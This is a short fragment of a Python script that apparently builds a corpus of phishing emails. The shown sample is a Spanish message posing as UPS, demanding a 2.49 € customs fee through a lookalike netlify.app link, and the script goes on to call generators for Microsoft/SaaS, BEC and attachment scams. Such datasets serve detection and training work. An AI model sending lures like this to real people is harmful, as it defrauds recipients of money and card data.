       "Estimado/a cliente:\n\nSu paquete 1Z8R7A940412345678 no ha podido ser entregado porque hay gastos de aduana pendientes (2,49 €). Pague antes de 24 horas para evitar la devolución:\nhttps://ups-entrega-es.netlify.app/aduana?id=1Z8R7A940412345678\n\nUPS España\n", None)


def make() -> None:
    nordic_brands()
    microsoft_and_saas()
    bec()
    attachments_and_scams()
